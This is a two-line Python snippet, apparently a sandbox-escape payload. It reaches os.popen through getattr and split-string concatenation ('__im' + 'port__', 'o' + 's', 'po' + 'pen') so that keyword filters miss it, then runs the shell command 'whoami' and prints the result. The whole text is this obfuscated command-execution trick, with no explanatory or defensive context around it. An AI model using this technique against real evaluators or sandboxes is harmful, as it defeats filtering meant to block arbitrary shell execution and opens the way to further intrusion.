m = getattr(getattr(__import__("builtins"), "__im" + "port__")("o" + "s"), "po" + "pen")
print(m("whoami").read())